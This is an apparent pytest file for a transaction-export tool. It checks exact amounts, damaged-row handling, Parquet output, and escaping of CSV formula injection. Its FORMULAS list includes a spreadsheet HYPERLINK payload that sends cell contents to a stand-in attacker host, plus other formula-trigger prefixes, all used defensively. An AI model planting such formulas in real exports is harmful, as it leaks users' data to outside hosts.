"""The formats of an export: exact amounts, no formulas, damaged rows, annotations."""

from __future__ import annotations

import io
import zlib
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st
from plaid_sync.domain import exact_json
from plaid_sync_cli.errors import CommandError
from plaid_sync_cli.export_formats import COLUMNS, ExportedRow, as_text, csv_cells, write_rows

if TYPE_CHECKING:
    from pathlib import Path


def test_cells_are_exact() -> None:
    cells = csv_cells(ExportedRow.of({"item_id": "a", "amount": Decimal("1E+3"), "pending": False, "name": "x"}))
    assert (cells[0], cells[5], cells[8], cells[10], cells[-1]) == ("a", "1000", "x", "false", "")


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
    *("+1", "-2+3", "@SUM(A1)", "\u22121", "\tx", "\rx", "\nx", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\x00=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "'=1", "''@a"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_and_none_is_lost(text: str) -> None:
    shown = as_text(text)
    assert shown == f"'{text}"
    cells = csv_cells(ExportedRow.of(dict.fromkeys(COLUMNS, text)))
    assert cells == [*[shown] * (len(COLUMNS) - 1), ""]


@pytest.mark.parametrize("text", ["", "Coffee", "a=b", "1-2", "'quoted'", "2026-01-01", "a\t=1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert as_text(text) == text


@given(st.text())
def test_an_apostrophe_is_added_only_in_front_of_a_formula(text: str) -> None:
    shown = as_text(text)
    assert shown in {text, f"'{text}"}
    assert as_text(shown) != shown or shown == text  # without one apostrophe it is the text again


@pytest.mark.parametrize("number", ["-12.34", "1E+3", "0.1234567", "-0.5", f"-1{'0' * 37}"])
def test_a_number_of_any_sign_stays_an_exact_number(number: str) -> None:
    assert Decimal(csv_cells(ExportedRow.of({"amount": Decimal(number)}))[5]) == Decimal(number)


def test_each_cell_is_quoted_so_that_no_other_separator_splits_it() -> None:
    stream = io.StringIO()
    write_rows([{"item_id": "i", "transaction_id": "t", "name": "a;=1"}], stream, "csv", lambda _: None)
    assert ',"a;=1",' in stream.getvalue()


GOOD: dict[str, Any] = {
    "item_id": "i",
    "transaction_id": "t",
    "account_id": "a",
    "date": "2026-01-01",
    "amount": Decimal("-1.50"),
    "pending": False,
    "plaid": zlib.compress(b'{"amount":-1.50}'),
}


@pytest.mark.parametrize(
    "damage",
    [
        {"plaid": "text"},
        {"plaid": b"no zlib"},
        {"plaid": zlib.compress(b"[]")},
        {"plaid": None},
        {"amount": "1"},
        {"amount": None},
        {"date": {1}},
        {"date": "2026-02-30"},
        {"name": b"bytes"},
    ],
    ids=str,
)
@pytest.mark.parametrize("file_format", ["jsonl", "csv"])
def test_a_damaged_row_is_exported_as_far_as_it_is_readable_and_named(damage: dict[str, Any], file_format: str) -> None:
    rows = [GOOD, {**GOOD, "transaction_id": "u"} | damage, {**GOOD, "transaction_id": "v"}]
    stream = io.StringIO()
    assert write_rows(rows, stream, file_format, lambda _: None) == (3, ["u"])
    lines = stream.getvalue().splitlines()[-3:]
    if file_format == "jsonl":
        shown = [exact_json.loads(line) for line in lines]
        assert [line["transaction_id"] for line in shown] == ["t", "u", "v"]
        assert [line.get("error") for line in shown] == [None, "unreadable_row", None]
        assert shown[0]["plaid"] == {name: GOOD[name] for name in GOOD if name not in {"item_id", "plaid"}}
        assert str(shown[0]["plaid"]["amount"]) == "-1.50"


def test_a_tombstone_without_content_is_not_damaged() -> None:
    row = {"item_id": "i", "transaction_id": "t", "removed_at": "2026-01-01T00:00:00.000Z"}
    assert write_rows([row], io.StringIO(), "jsonl", lambda _: None) == (1, [])


def test_damaged_rows_in_parquet_have_what_is_readable(tmp_path: Path) -> None:
    changes: list[dict[str, Any]] = [
        {"amount": "1"},
        {"date": "2026-02-30"},
        {"pending": 1},
        {"name": b"x"},
        {"plaid": b""},
    ]
    rows = parquet(tmp_path / "a.parquet", *(GOOD | change for change in changes))
    assert [row["error"] for row in rows] == ["unreadable_row"] * len(changes)
    assert [row["amount"] for row in rows] == [None, *[Decimal("-1.5")] * 4]
    assert (rows[1]["date"], rows[2]["pending"], rows[3]["name"], rows[4]["plaid"]) == (None, None, None, None)


ANNOTATIONS = {"note": "=1", "split": [Decimal("0.10"), {"b": None}], "tags": {"y", "x"}, "raw": b"\x00"}
AS_JSON = '{"note":"=1","raw":"AA==","split":[0.10,{"b":null}],"tags":["x","y"]}'


@pytest.mark.parametrize(("file_format", "shown"), [("jsonl", AS_JSON), ("csv", AS_JSON.replace('"', '""'))])
def test_annotations_are_exported_as_json(file_format: str, shown: str) -> None:
    stream = io.StringIO()
    write_rows([GOOD | {"annotations": ANNOTATIONS}], stream, file_format, lambda _: None)
    assert shown in stream.getvalue()


def parquet(path: Path, *rows: dict[str, Any]) -> list[dict[str, Any]]:
    """Write a Parquet file, and return its rows as DuckDB reads them."""
    with path.open("wb") as stream:
        write_rows(rows, stream, "parquet", lambda _: None)
    found: list[dict[str, Any]] = duckdb.read_parquet(str(path)).to_arrow_table().to_pylist()
    return found


def test_parquet_has_dates_times_and_json(tmp_path: Path) -> None:
    removed = {"removed_at": "2026-01-01T00:00:00.001Z", "annotations": ANNOTATIONS, "authorized_date": "2025-12-31"}
    live, tombstone = parquet(tmp_path / "a.parquet", GOOD, GOOD | removed)
    assert (live["date"], live["pending"], live["removed_at"], live["annotations"]) == (
        date(2026, 1, 1),
        False,
        None,
        None,
    )
    assert exact_json.loads(live["plaid"]) == {name: GOOD[name] for name in GOOD if name not in {"item_id", "plaid"}}
    assert tombstone["removed_at"] == datetime(2026, 1, 1, 0, 0, 0, 1_000, UTC)
    assert (tombstone["authorized_date"], tombstone["annotations"]) == (date(2025, 12, 31), AS_JSON)
    assert live["error"] is tombstone["error"] is None


@pytest.mark.parametrize(
    "number", ["-12.34", "1E+3", "1E+19", "0.000000000000000001", f"{'9' * 20}.{'9' * 18}", "-0.50", "0", "7.0E-18"]
)
def test_an_amount_in_parquet_is_exact(number: str, tmp_path: Path) -> None:
    (row,) = parquet(tmp_path / "a.parquet", GOOD | {"amount": Decimal(number)})
    assert row["amount"] == Decimal(number)


@pytest.mark.parametrize("number", ["1E-19", "1E+20", f"1.{'0' * 18}1", f"-{'9' * 21}", "1E+37", f"0.{'1' * 38}"])
def test_an_amount_that_parquet_cannot_hold_exactly_is_an_error_that_names_row_and_fix(
    number: str, tmp_path: Path
) -> None:
    with pytest.raises(CommandError, match=r"of transaction t of Item i .+ --format jsonl or csv"):
        parquet(tmp_path / "a.parquet", GOOD, GOOD | {"amount": Decimal(number)})
